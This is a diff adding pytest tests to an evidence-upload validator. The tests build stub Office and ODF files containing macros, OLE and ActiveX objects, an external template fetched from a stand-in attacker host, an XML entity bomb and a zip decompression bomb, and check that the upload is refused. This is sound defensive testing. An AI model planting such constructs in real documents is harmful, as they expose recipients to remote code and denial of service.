@@ -49,6 +49,194 @@ JS_PDF = (
     b"3 0 obj\n<< /S /JavaScript /JS (app.alert('x');) >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n"
     b"%%EOF\n"
 )
+CONTENT_TYPES = (
+    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+    b'content-types"><Default Extension="xml" ContentType="application/xml"/>%s</Types>'
+)
+MACRO_TYPE = b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'  # noqa: E501
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def rels(*relationships: tuple[str, str, str]) -> bytes:
+    """A .rels part with (type, target, target mode) relationships."""
+    body = "".join(
+        f'<Relationship Id="rId{n}" Type="{REL}/{kind}" Target="{target}"'
+        + (f' TargetMode="{mode}"' if mode else "")
+        + "/>"
+        for n, (kind, target, mode) in enumerate(relationships, 1)
+    )
+    xmlns = "http://schemas.openxmlformats.org/package/2006/relationships"
+    return f'<?xml version="1.0"?><Relationships xmlns="{xmlns}">{body}</Relationships>'.encode()
+
+
+def xlsx(extra: dict[str, bytes] | None = None, types: bytes = b"") -> bytes:
+    return zipped(
+        {
+            "[Content_Types].xml": CONTENT_TYPES % types,
+            "_rels/.rels": rels(("officeDocument", "xl/workbook.xml", "")),
+            "xl/workbook.xml": b"<workbook/>",
+            **(extra or {}),
+        }
+    )
+
+
+def docx(extra: dict[str, bytes] | None = None) -> bytes:
+    return zipped(
+        {
+            "[Content_Types].xml": CONTENT_TYPES % b"",
+            "_rels/.rels": rels(("officeDocument", "word/document.xml", "")),
+            "word/document.xml": b"<document/>",
+            **(extra or {}),
+        }
+    )
+
+
+def odf(kind: str, extra: dict[str, bytes] | None = None, manifest: bytes = b"") -> bytes:
+    return zipped(
+        {
+            "mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(),
+            "content.xml": b"<office:document-content/>",
+            "META-INF/manifest.xml": b"<manifest:manifest><manifest:file-entry "
+            b'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.'
+            + kind.encode()
+            + b'"/>'
+            + manifest
+            + b"</manifest:manifest>",
+            **(extra or {}),
+        }
+    )
+
+
+EXTERNAL_TEMPLATE = rels(("attachedTemplate", "http://attacker.example/t.dotm", "External"))
+ENTITY_BOMB = (
+    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
+    b"<Relationships>&b;</Relationships>"
+)
+OFFICE_REFUSED = [
+    pytest.param(
+        xlsx({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, MACRO_TYPE),
+        "anggaran.xlsm",
+        "makro",
+        id="xlsm-with-vbaproject",
+    ),
+    pytest.param(
+        xlsx({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "anggaran.xlsx", "makro", id="xlsx-vba"
+    ),
+    pytest.param(xlsx(types=MACRO_TYPE), "data.xlsx", "makro", id="macro-enabled-content-type"),
+    pytest.param(
+        docx({"word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE}),
+        "surat.docx",
+        "dari luar",
+        id="docx-external-template",
+    ),
+    pytest.param(
+        docx(
+            {"word/_rels/document.xml.rels": rels(("image", "http://x.example/p.png", "External"))}
+        ),
+        "surat.docx",
+        "dari luar",
+        id="docx-external-image",
+    ),
+    pytest.param(
+        docx({"word/_rels/document.xml.rels": ENTITY_BOMB}),
+        "surat.docx",
+        "dari luar",
+        id="rels-with-entities",
+    ),
+    pytest.param(
+        docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
+        "surat.docx",
+        "objek tersemat",
+        id="docx-ole-object",
+    ),
+    pytest.param(
+        docx({"word/activeX/activeX1.xml": b"<ax/>"}), "surat.docx", "objek tersemat", id="activex"
+    ),
+    pytest.param(
+        odf("text", {"Basic/Standard/Module1.xml": b"<script/>"}),
+        "surat.odt",
+        "makro",
+        id="odt-basic-macro",
+    ),
+    pytest.param(
+        odf(
+            "spreadsheet",
+            manifest=b'<manifest:file-entry manifest:full-path="Scripts/python/x.py" '
+            b'manifest:media-type="application/vnd.sun.star.script"/>',
+        ),
+        "data.ods",
+        "makro",
+        id="ods-script-in-manifest",
+    ),
+    pytest.param(
+        odf(
+            "text",
+            manifest=b'<manifest:file-entry manifest:full-path="Object 1" '
+            b'manifest:media-type="application/vnd.sun.star.oleobject"/>',
+        ),
+        "surat.odt",
+        "objek tersemat",
+        id="odt-ole-object",
+    ),
+]
+
+
+@pytest.mark.parametrize(("content", "name", "reason"), OFFICE_REFUSED)
+def test_office_file_with_macros_external_parts_or_objects_is_refused(
+    operator_client, media, settings, content, name, reason
+):
+    settings.EVIDENCE_MAX_BYTES = 1024 * 1024
+    response = post_file(operator_client, content, name)
+    page = response.content.decode()
+    assert response.status_code == 400
+    assert reason in page
+    assert "unggah lagi" in page  # the message says what to do
+    assert not Evidence.objects.exists()
+    assert files_under(media) == []
+
+
+OFFICE_ACCEPTED = [
+    pytest.param(
+        docx(
+            {
+                "word/_rels/document.xml.rels": rels(
+                    ("hyperlink", "https://kemenpppa.go.id/", "External"),
+                    ("styles", "styles.xml", ""),
+                )
+            }
+        ),
+        "surat.docx",
+        id="docx-with-a-hyperlink",
+    ),
+    pytest.param(
+        xlsx({"xl/printerSettings/printerSettings1.bin": b"\x00" * 64}),
+        "data.xlsx",
+        id="xlsx-with-printer-settings",
+    ),
+    pytest.param(odf("spreadsheet"), "data.ods", id="plain-ods"),
+]
+
+
+@pytest.mark.parametrize(("content", "name"), OFFICE_ACCEPTED)
+def test_ordinary_office_file_is_accepted(operator_client, media, settings, content, name):
+    settings.EVIDENCE_MAX_BYTES = 1024 * 1024
+    response = post_file(operator_client, content, name)
+    assert response.status_code == 302, response.content.decode()[:2000]
+    assert Evidence.objects.get().original_name == name
+
+
+def test_a_part_that_unpacks_past_the_cap_is_refused_without_reading_it(
+    operator_client, media, settings
+):
+    settings.EVIDENCE_MAX_BYTES = 1024 * 1024
+    huge = b"<Types>" + b" " * (3 * 1024 * 1024) + b"</Types>"
+    content = zipped({"[Content_Types].xml": huge, "xl/workbook.xml": b"<workbook/>"})
+    assert len(content) < 64 * 1024
+    response = post_file(operator_client, content, "data.xlsx")
+    assert response.status_code == 400
+    assert "terlalu besar" in response.content.decode()
+
+
 NOT_OFFICE = zipped({"readme.txt": b"just a zip", "payload.exe": ELF})
 HALF_OFFICE = zipped({"[Content_Types].xml": b"<Types/>", "docProps/app.xml": b"<x/>"})
 
